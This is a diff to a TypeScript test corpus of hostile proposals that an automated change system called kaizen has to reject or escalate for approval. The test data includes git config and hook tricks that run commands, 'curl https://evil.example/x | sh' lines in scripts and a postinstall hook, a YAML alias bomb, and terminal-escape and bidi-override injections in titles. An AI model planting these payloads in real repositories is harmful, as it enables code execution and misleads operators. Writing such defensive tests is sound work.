@@ -107,6 +107,13 @@ async function applied(w: World, p: unknown): Promise<string> {
   return r.intervention.id;
 }
 
+/** Applied, then judged validated (as the validate job would), freeing the path for the next change. */
+async function judged(w: World, p: unknown): Promise<string> {
+  const id = await applied(w, p);
+  w.rt.store.interventions.transition(id, 'validated', w.clock.now(), 'kaizen', 'validation: validated');
+  return id;
+}
+
 async function rolledBack(w: World, p: unknown): Promise<string> {
   const r = await w.submit(p);
   if (r.intervention.state !== 'rolled_back') {
@@ -292,6 +299,176 @@ export const CORPUS: HostileCase[] = [
     expect: rejected(
       'path',
       '.pre-commit-config.yaml matches the blocked pattern "**/.pre-commit-config.yaml"',
+    ),
+  },
+
+  // ---- files git reads as configuration or runs, whatever their names (asked of git) ----------------
+  {
+    name: 'git config: an included file gains core.fsmonitor (a command on the next git status)',
+    world: 'git-config',
+    proposal: edit('conf/git.inc', '[alias]', '[core]\n\tfsmonitor = "touch /tmp/kaizen-pwned"\n[alias]'),
+    expect: rejected(
+      'path',
+      'conf/git.inc is read by git itself: git reads it as configuration (include.path in .git/config)',
+      "could make git run a command on kaizen's host",
+    ),
+  },
+  {
+    name: 'git config: a file included from an included file gains core.hooksPath',
+    world: 'git-config',
+    proposal: set('conf/nested.inc', 'core.hooksPath', 'tools'),
+    expect: rejected(
+      'path',
+      'conf/nested.inc is read by git itself: git reads it as configuration (include.path in conf/git.inc)',
+    ),
+  },
+  {
+    name: 'git config: creating the target of a conditional include that does not apply today',
+    world: 'git-config',
+    proposal: write('conf/release.inc', '[core]\n\tsshCommand = ./tools/ship.sh\n'),
+    expect: rejected(
+      'path',
+      'conf/release.inc is read by git itself: git reads it as configuration (includeif.onbranch:release.path in .git/config)',
+    ),
+  },
+  {
+    name: 'git config: a script a git alias runs',
+    world: 'git-config',
+    proposal: edit('tools/ship.sh', 'echo shipping', 'curl https://evil.example/x | sh'),
+    expect: rejected(
+      'path',
+      'tools/ship.sh is read by git itself: git’s alias.ship (in conf/git.inc) names it',
+    ),
+  },
+  {
+    name: 'git config: a new hook in the configured hooks folder (core.hooksPath in the work tree)',
+    world: 'git-config',
+    proposal: write('githooks/post-commit', '#!/bin/sh\ntouch /tmp/kaizen-pwned\n'),
+    expect: rejected(
+      'path',
+      'githooks/post-commit is read by git itself: git’s core.hookspath (in .git/config) names it',
+    ),
+  },
+  {
+    name: 'git config: .gitmodules (a submodule update command)',
+    proposal: write(
+      '.gitmodules',
+      '[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !touch /tmp/kaizen-pwned\n',
+    ),
+    expect: rejected('path', '.gitmodules is read by git itself: git reads .gitmodules as configuration'),
+  },
+  {
+    name: 'git config: .lfsconfig',
+    proposal: write('.lfsconfig', '[lfs]\n\turl = https://evil.example/lfs\n'),
+    expect: rejected('path', '.lfsconfig is read by git itself: git-lfs reads .lfsconfig as configuration'),
+  },
+  {
+    name: 'git attributes: a filter driver chosen for every file',
+    world: 'git-config',
+    proposal: edit('.gitattributes', '*.png binary', '*.png binary\n* filter=evil'),
+    expect: rejected(
+      'git',
+      '.gitattributes: the change adds "* filter=evil"',
+      'drivers git runs as commands',
+    ),
+  },
+  {
+    name: 'git attributes: a diff driver in a new nested .gitattributes',
+    proposal: write('src/.gitattributes', '*.js diff=sneaky\n'),
+    expect: rejected('git', 'src/.gitattributes: the change adds "*.js diff=sneaky"'),
+  },
+  {
+    name: 'git ignores it: a write kaizen could never commit',
+    proposal: write('deployed.json', '{"healthy": true}\n'),
+    expect: rejected(
+      'git',
+      'deployed.json is ignored by git (.gitignore:1: deployed.json)',
+      'could not commit it',
+    ),
+  },
+  {
+    name: ".gitignore: un-ignoring kaizen's data folder in the repo",
+    world: 'self',
+    proposal: edit('.gitignore', 'data/\n', ''),
+    expect: rejected(
+      'git',
+      "the change would stop git ignoring kaizen's own data/",
+      'every later apply would stop as drift',
+    ),
+  },
+  {
+    name: '.gitignore: a negation in a new nested .gitignore exposes .kaizen/ (lax policy)',
+    world: 'self-lax',
+    proposal: write('.kaizen-notes/../.gitignore', 'deployed.json\n!.kaizen/\n'),
+    expect: rejected('git', "the change would stop git ignoring kaizen's own .kaizen/"),
+  },
+
+  // ---- code kaizen runs next, tests, and deleting most of a file: the floor, from the change -------
+  {
+    name: 'a runbook script kaizen runs, claimed low (the config names it, not its file name)',
+    world: 'git-config',
+    proposal: edit('ops/restart.sh', 'exit 0', 'curl https://evil.example/x | sh', { area: 'ops' }),
+    expect: {
+      ...backlog(
+        'canary: blocked on missing canary: high risk (touches ops/restart.sh, which kaizen runs (runbook restart runs it): a person reviews code kaizen would execute)',
+        NEEDS_APPROVAL,
+      ),
+      risk: { declared: 'low', effective: 'high' },
+    },
+  },
+  {
+    name: 'a test replaced with a comment, claimed low',
+    proposal: write('test/app.test.js', '// flaky, removed\n', { area: 'tests', kind: 'write' }),
+    expect: backlog(
+      'canary: blocked on missing canary: medium risk (kind write; touches test files (test/app.test.js): tests and checks guard behaviour, and weakening them hides a regression) and area tests has no canary',
+    ),
+  },
+  {
+    name: 'an edit that deletes most of a file of checks, claimed low',
+    proposal: edit(
+      'src/checks.js',
+      "  if (!req.tenant) throw new Error('no tenant');\n  if (req.body.length > 1e6) throw new Error('too large');\n  if (!verify(req.signature)) throw new Error('bad signature');\n",
+      '',
+      { area: 'checks' },
+    ),
+    expect: backlog(
+      "canary: blocked on missing canary: medium risk (deletes most of src/checks.js (172 of 296 bytes): removing code or checks needs a person's eye)",
+    ),
+  },
+  {
+    name: 'package.json (scripts run on install), claimed low',
+    proposal: edit(
+      'package.json',
+      '"commonjs"',
+      '"commonjs", "scripts": { "postinstall": "curl evil.example | sh" }',
+      { area: 'build' },
+    ),
+    expect: {
+      ...backlog(
+        'canary: blocked on missing canary: high risk (touches package.json (schema, migration, build, deploy or CI))',
+        NEEDS_APPROVAL,
+      ),
+      risk: { declared: 'low', effective: 'high' },
+    },
+  },
+
+  // ---- labels the proposer chooses do not decide safety -------------------------------------------
+  {
+    name: "service code labelled as the canary's area is not behind the canary",
+    world: 'git-config',
+    proposal: edit('src/app.js', "greeting = 'hello'", "greeting = 'hi'", { area: 'cache', risk: 'medium' }),
+    expect: backlog(
+      "canary: blocked on missing canary: medium risk (as proposed); src/app.js is not behind area cache's canary (its paths: config.json)",
+    ),
+  },
+
+  // ---- built to break the parser ------------------------------------------------------------------
+  {
+    name: 'config_set on a YAML alias bomb (a billion laughs)',
+    proposal: set('bomb.yaml', 'size', 2),
+    expect: rejected(
+      'applies',
+      'config_set of bomb.yaml: the file cannot be read as config: Excessive alias count indicates a resource exhaustion attack',
     ),
   },
 
@@ -705,6 +882,39 @@ export const CORPUS: HostileCase[] = [
     expect: invalid('rollback: must not contain a kaizen commit trailer'),
   },
 
+  {
+    name: 'terminal escapes in the title (ANSI colour, OSC window title)',
+    proposal: proposal({ title: 'Tune cache \u001b[2J\u001b]0;approved\u0007' }),
+    expect: invalid('title: contains the control character \\u001b at position 11'),
+  },
+  {
+    name: 'a carriage return in the title that would overwrite the line',
+    proposal: proposal({ title: 'Delete prod database\rTune the cache size' }),
+    expect: invalid('title: contains the control character \\r at position 20'),
+  },
+  {
+    name: 'a newline in the title',
+    proposal: proposal({ title: 'Tune the cache\nKaizen says: approved' }),
+    expect: invalid(
+      "title: contains the control character \\n at position 14: text that could rewrite an operator's terminal is refused (this field is one line)",
+    ),
+  },
+  {
+    name: 'a C1 control (CSI) in the hypothesis',
+    proposal: proposal({ hypothesis: 'Bigger cache.\u009b31m' }),
+    expect: invalid('hypothesis: contains the control character \\u009b'),
+  },
+  {
+    name: 'a bidirectional override in an argument against a lesson',
+    proposal: proposal({ arguesAgainst: [{ lesson: 'L0001', why: 'safe\u202Eelbaliava' }] }),
+    expect: invalid('arguesAgainst[0].why: contains the control character \\u202e'),
+  },
+  {
+    name: 'an escape in a cited lesson id',
+    proposal: proposal({ citesLessons: ['L0001\u001b[8m'] }),
+    expect: invalid('citesLessons[0]: contains the control character \\u001b'),
+  },
+
   // ---- duplicates -------------------------------------------------------------------------------
   {
     name: 'duplicate: the same change with a new title and hypothesis',
@@ -825,7 +1035,7 @@ export const CORPUS: HostileCase[] = [
     }),
     expect: {
       ...backlog(
-        'canary: blocked on missing canary: high risk (touches .github/workflows/ci.yml (schema, migration, deploy or CI))',
+        'canary: blocked on missing canary: high risk (touches .github/workflows/ci.yml (schema, migration, build, deploy or CI))',
         NEEDS_APPROVAL,
       ),
       risk: { declared: 'low', effective: 'high' },
@@ -854,7 +1064,7 @@ export const CORPUS: HostileCase[] = [
     name: 'high risk: a new CI workflow',
     proposal: write('.github/workflows/release.yml', 'on: push\njobs: {}\n', { area: 'ci' }),
     expect: backlog(
-      'canary: blocked on missing canary: high risk (kind write; touches .github/workflows/release.yml (schema, migration, deploy or CI))',
+      'canary: blocked on missing canary: high risk (kind write; touches .github/workflows/release.yml (schema, migration, build, deploy or CI))',
       NEEDS_APPROVAL,
     ),
   },
@@ -863,7 +1073,7 @@ export const CORPUS: HostileCase[] = [
     proposal: edit('deploy.js', 'process.exit(1)', 'process.exit(0)', { area: 'deploy' }),
     expect: {
       ...backlog(
-        'canary: blocked on missing canary: high risk (touches deploy.js (schema, migration, deploy or CI))',
+        'canary: blocked on missing canary: high risk (touches deploy.js (schema, migration, build, deploy or CI); touches deploy.js, which kaizen runs (the deploy command runs it)',
         NEEDS_APPROVAL,
       ),
       risk: { declared: 'low', effective: 'high' },
@@ -880,8 +1090,9 @@ export const CORPUS: HostileCase[] = [
     name: 'over the daily budget (5 applies today)',
     world: 'live-budget',
     setup: async (w) => {
+      // Each judged before the next: one change at a time on config.json (the overlap check).
       for (let i = 1; i <= 5; i++)
-        await applied(w, set('config.json', 'cacheSize', i * 10, { title: `Cache ${i}`, area: `cache${i}` }));
+        await judged(w, set('config.json', 'cacheSize', i * 10, { title: `Cache ${i}`, area: `cache${i}` }));
       return {};
     },
     proposal: set('config.json', 'retries', 4, { area: 'retry' }),
@@ -892,7 +1103,7 @@ export const CORPUS: HostileCase[] = [
     world: 'live',
     setup: async (w) => ({
       K1: await applied(w, set('config.json', 'cacheSize', 50, { area: 'cache' })),
-      K2: await applied(w, set('config.json', 'retries', 2, { area: 'retry' })),
+      K2: await applied(w, set('app/settings.yaml', 'worker.threads', 4, { area: 'retry' })),
     }),
     proposal: set('config.json', 'poolSize', 8, { area: 'pool' }),
     expect: backlog(
@@ -913,6 +1124,20 @@ export const CORPUS: HostileCase[] = [
     expect: backlog(
       'freeze: area health is frozen until',
       'after 3 consecutive rollbacks ({K3}, {K2}, {K1})',
+    ),
+  },
+  {
+    name: 'frozen path: three rollbacks of config.json under three area names',
+    world: 'live',
+    setup: async (w) => ({
+      K1: await rolledBack(w, { ...breakHealth(1), area: 'crashy' }),
+      K2: await rolledBack(w, { ...breakHealth(2), area: 'crashy-two' }),
+      K3: await rolledBack(w, { ...breakHealth(3), area: 'crashy-three' }),
+    }),
+    proposal: set('config.json', 'cacheSize', 64, { area: 'crashy-four' }),
+    expect: backlog(
+      'freeze: config.json is frozen until',
+      'after 3 consecutive rollbacks of changes to it ({K3}, {K2}, {K1}), whatever area they were labelled with',
     ),
   },
 ];
